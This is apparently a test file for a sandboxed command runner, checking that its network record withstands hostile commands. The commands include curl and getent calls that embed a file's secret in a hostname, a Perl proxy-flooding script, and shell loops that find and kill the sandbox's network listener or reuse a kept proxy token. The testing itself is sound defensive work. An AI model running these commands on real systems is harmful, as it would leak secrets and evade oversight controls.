/** A hostile pack against the record of its network: secrets in names, floods, a full disk, the listener inside, old tokens. */
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  cleanEnvironment,
  CLI,
  cli,
  cliAsync,
  NODE,
  onlyRun,
  type Ran,
  repository,
  start,
  type TestRepository
} from './harness.js';

const LIMIT = 120_000;
const GRANTED = 'permissions: {network: {allow: ["registry.example.org:443"]}}';
/** `VALUE` in any case: names of hosts travel in lower case. */
const VALUE = 'AbCdEf123456XyZw';

let repo: TestRepository;
afterEach(() => repo.remove());

interface PackParts {
  granted?: boolean;
  more?: string;
  test: readonly string[];
}

function packOf({ granted = true, more = '', test }: PackParts): string {
  return `id: NET-9
title: Attack the record
${granted ? GRANTED : ''}
acceptance:
  commands: ${JSON.stringify(test)}
${more}
pr: false
`;
}

function lines(name: string): Record<string, unknown>[] {
  return readFileSync(join(onlyRun(repo), name), 'utf8')
    .split('\n')
    .slice(0, -1)
    .map(line => JSON.parse(line) as Record<string, unknown>);
}

function ofType(type: string): unknown[] {
  return lines('events.jsonl')
    .filter(event => event['type'] === type)
    .map(event => event['data']);
}

function logs(): string[] {
  const directory = join(onlyRun(repo), 'logs/test');
  return readdirSync(directory)
    .sort()
    .map(name => readFileSync(join(directory, name), 'utf8'));
}

function expectVerified(): void {
  const { code, stdout } = cli(repo.path, ['verify', 'last']);
  expect([code, stdout]).toEqual([0, expect.stringContaining('consistent')]);
}

describe('a secret as the name of a host', () => {
  const ASKS = [
    `curl -s "https://$(cat word).proxy.example.com/" || true`,
    `curl -s "http://$(cat word).plain.example.com/" || true`,
    `getent hosts "$(cat word).dns.example.com" || true`,
    `curl -s --noproxy '*' "https://$(cat word).past.example.com/" || true`
  ];

  async function ask(granted: boolean, args: string[], env: Record<string, string>): Promise<Ran> {
    repo = repository({ 'pack.yml': packOf({ granted, test: ASKS }), word: VALUE });
    return cliAsync(repo.path, ['run', 'pack.yml', ...args], env).done;
  }

  /** Files of the record, and what was printed, that hold the value in any case. */
  function holders({ stdout, stderr }: Ran): string[] {
    const directory = onlyRun(repo);
    const files = readdirSync(directory, { recursive: true, encoding: 'utf8' })
      .filter(name => statSync(join(directory, name)).isFile())
      .map(name => [name, readFileSync(join(directory, name), 'latin1')] as const);
    const all = [...files, ['stdout', stdout] as const, ['stderr', stderr] as const];
    return all.filter(([, text]) => text.toLowerCase().includes(VALUE.toLowerCase())).map(([name]) => name);
  }

  it.each([
    ['granted, on a terminal', true, []],
    ['granted, as JSON', true, ['--json']],
    ['not granted, on a terminal', false, []],
    ['not granted, as JSON', false, ['--json']]
  ])(
    '%s: it is nowhere, and its name stands in its place',
    async (_name, granted, args) => {
      const ran = await ask(granted, args, { MY_API_TOKEN: VALUE });
      expect([ran.code, holders(ran)]).toEqual([0, []]);
      const hosts = lines('egress.jsonl').map(line => line['host']);
      for (const kind of ['proxy', 'plain', 'dns', 'past'])
        expect(hosts).toContain(`[redacted:MY_API_TOKEN].${kind}.example.com`);
      expect(ran.stdout).toContain('[redacted:MY_API_TOKEN].proxy.example.com');
      expectVerified();
    },
    LIMIT
  );
  it(
    'the proof: what is no secret of the environment is recorded in lower case',
    async () => {
      const ran = await ask(true, [], {});
      expect(holders(ran)).toEqual(
        expect.arrayContaining(['egress.jsonl', 'events.jsonl', 'summary.md', 'stdout'])
      );
      expect(lines('egress.jsonl')[0]).toMatchObject({ host: `${VALUE.toLowerCase()}.proxy.example.com` });
    },
    LIMIT
  );
  it(
    'secrets that are words of the record do not take its form away',
    async () => {
      await ask(true, [], { A_TOKEN: 'connect', B_TOKEN: 'refused', C_TOKEN: 'bytes_in":0' });
      expect(lines('egress.jsonl')[0]).toMatchObject({ kind: 'connect', verdict: 'refused', bytes_in: 0 });
    },
    LIMIT
  );
});

/** Asks the proxy of the environment for so many hosts, one after the other. */
const FLOOD = String.raw`use strict; use IO::Socket::INET; use MIME::Base64;
my ($user, $where) = $ENV{HTTPS_PROXY} =~ m{//([^@]*)@([^/]*)} or die "no proxy";
my $basic = encode_base64($user, '');
for my $n (1 .. $ARGV[0]) {
  my $s = IO::Socket::INET->new(PeerAddr => $where) or die "connect: $!";
  print $s "CONNECT h$n.$ARGV[1].example.com:443 HTTP/1.1\r\nProxy-Authorization: Basic $basic\r\n\r\n";
  local $/; my $answer = <$s>; $answer =~ m{^HTTP/1.1 403} or die $answer }
print "asked\n";
`;

describe('a flood of refused attempts', () => {
  it(
    'every one is in egress.jsonl; journal, summary and advice stay small; what follows is told all the same',
    async () => {
      const test = ['perl flood.pl 300 many', 'perl flood.pl 1 late', 'echo next'];
      repo = repository({ 'pack.yml': packOf({ test }), 'flood.pl': FLOOD });
      const ran = await cliAsync(repo.path, ['run', 'pack.yml']).done;
      expect([ran.code, logs()]).toEqual([0, ['asked\n', 'asked\n', 'next\n']]);
      expect(lines('egress.jsonl')).toHaveLength(301);
      expect(ofType('network.refused')).toHaveLength(101);
      expect(ofType('network.refused-more')).toEqual([{ phase: 'test', command: 'test/1', count: 200 }]);
      expect(ofType('egress.ended')).toMatchObject([{ refused: 301 }]);
      const summary = readFileSync(join(onlyRun(repo), 'summary.md'), 'utf8');
      expect(summary.match(/many\.example\.com/g)).toHaveLength(50);
      expect(summary).toContain('and 251 more, in egress.jsonl');
      expect(ran.stdout.match(/many\.example\.com/g)).toHaveLength(10);
      expectVerified();
    },
    LIMIT
  );
});

const IS_ROOT = process.getuid?.() === 0;
/** A disk of 2 MiB for the evidence, in mounts of the program's own; what is on it is copied out at the end. */
const TINY_DISK = [
  ...['unshare', ...(IS_ROOT ? ['--mount'] : ['-Ur', '--mount']), 'sh', '-c'],
  `mount -t tmpfs -o size=2m tmpfs "$1" || exit 99; from=$1 to=$2; shift 2; ${IS_ROOT ? '' : 'unshare -U --map-user=1000 --map-group=1000 '}"$@"; code=$?; cp -r "$from/." "$to"; exit $code`,
  'sh'
];

describe('a disk that attempts fill up', () => {
  it(
    'the run ends with that reason, is sealed, and verifies',
    async () => {
      // Requests of 250 characters each: more than the disk holds, less than the proxy decides.
      const test = [`perl flood.pl 6000 ${'x'.repeat(63)}.${'y'.repeat(63)}.${'z'.repeat(63)}`, 'echo next'];
      repo = repository({ 'pack.yml': packOf({ test }), 'flood.pl': FLOOD });
      const place = mkdtempSync(join(tmpdir(), 'codex-tiny-'));
      const [disk, copy] = [join(place, 'disk'), join(place, 'copy')];
      for (const directory of [disk, copy]) mkdirSync(directory);
      try {
        const argv = [
          ...TINY_DISK,
          disk,
          copy,
          NODE,
          CLI,
          'run',
          'pack.yml',
          '--evidence-dir',
          join(disk, 'e')
        ];
        const ran = await start(argv, repo.path, cleanEnvironment()).done;
        expect([ran.code, ran.stdout]).toEqual([70, expect.stringContaining('verdict   EVID_WRITE')]);
        cpSync(join(copy, 'e'), join(repo.path, '.orchestrator_logs'), { recursive: true });
        expect(logs()).toHaveLength(1);
        expect(ofType('log.incomplete')).toMatchObject([{ path: 'egress.jsonl' }]);
        expect(existsSync(join(onlyRun(repo), 'manifest.json'))).toBe(true);
        expectVerified();
      } finally {
        rmSync(place, { recursive: true, force: true });
      }
    },
    LIMIT
  );
});

describe('the listener inside', () => {
  it(
    'stopped or ended by a command, it opens nothing, holds up nobody, and the next command has its own',
    async () => {
      // It takes its name a moment after the command has begun.
      const test = [
        'until [ -n "$p" ]; do for f in /proc/[0-9]*/cmdline; do grep -q ^sandbox-network $f && p=${f#/proc/}; done; done; kill -STOP ${p%/cmdline}; timeout 1 curl -s https://a.example.com/ || echo $?',
        'until [ -n "$p" ]; do for f in /proc/[0-9]*/cmdline; do grep -q ^sandbox-network $f && p=${f#/proc/}; done; done; kill -KILL ${p%/cmdline}; curl -s https://b.example.com/ || echo $?',
        'curl -s https://c.example.com/ || echo $?'
      ];
      repo = repository({ 'pack.yml': packOf({ test }) });
      const ran = await cliAsync(repo.path, ['run', 'pack.yml']).done;
      expect([ran.code, logs()]).toEqual([0, ['124\n', expect.stringMatching(/^(5|7|56)\n$/), '56\n']]);
      expect(lines('egress.jsonl').map(line => line['host'])).toEqual(['c.example.com']);
    },
    LIMIT
  );
  it(
    'a token that an earlier command kept is worth nothing, and neither is the socket without one',
    async () => {
      const test = [
        'echo "$HTTPS_PROXY" > kept; curl -s https://own.example.com/ || echo $?',
        'curl -s -x "$(cat kept)" https://registry.example.org/ || echo $?; curl -s --unix-socket /.codex-egress.sock http://registry.example.org/ -o /dev/null -w "%{http_code}\\n"'
      ];
      repo = repository({ 'pack.yml': packOf({ test }) });
      const ran = await cliAsync(repo.path, ['run', 'pack.yml']).done;
      expect([ran.code, logs()]).toEqual([0, ['56\n', expect.stringMatching(/^56\n40\d\n$/)]]);
      const codes = lines('egress.jsonl').map(({ host, command, code }) => [host, command, code]);
      expect(codes[0]).toEqual(['own.example.com', 'test/1', 'NET_NOT_GRANTED']);
      expect(codes[1]).toEqual(['registry.example.org', null, 'NET_TOKEN_REFUSED']);
    },
    LIMIT
  );
});

describe('credentials that nothing can be laid over', () => {
  it(
    'in a directory whose name is not UTF-8: refused before anything runs',
    async () => {
      repo = repository({ 'pack.yml': packOf({ granted: false, test: ['grep -rhs UNIQUE= .'] }) });
      const odd = Buffer.concat([Buffer.from(`${repo.path}/d`), Buffer.from([0xff])]);
      mkdirSync(odd);
      const name = Buffer.concat([odd, Buffer.from('/.env')]);
      writeFileSync(name, 'UNIQUE=value\n');
      repo.commit('odd');
      const ran = await cliAsync(repo.path, ['run', 'pack.yml', '--json']).done;
      expect([ran.code, ran.json.verdict.code]).toEqual([3, 'SCOPE_UNSAFE_PATH']);
      expect(ran.json.verdict.detail).toContain('d\\xff/.env');
    },
    LIMIT
  );
  it(
    'beside isolation none: refused for that reason',
    async () => {
      const policy = { version: 1, isolation: ['none'], none: { programs: ['cat'] } };
      repo = repository({
        'pack.yml': packOf({ granted: false, more: 'isolation: none', test: ['cat settings'] }),
        '.codex/policy.yml': JSON.stringify(policy),
        '.env': 'A=value\n',
        settings: 'plain\n'
      });
      const args = ['run', 'pack.yml', '--json', '--isolation', 'none', '--mode', 'privileged'];
      const refused = await cliAsync(repo.path, args).done;
      expect([refused.code, refused.json.verdict.code]).toEqual([3, 'ISO_NONE_SECRET']);
      expect(refused.json.verdict.detail).toContain('".env"');
      // The proof: with the operator's word that it is none, the run starts.
      rmSync(join(repo.path, '.orchestrator_logs'), { recursive: true });
      repo.write('.codex/policy.yml', JSON.stringify({ ...policy, not_secret: ['.env'] }));
      repo.commit('spared');
      expect((await cliAsync(repo.path, args).done).code).toBe(0);
    },
    LIMIT
  );
});
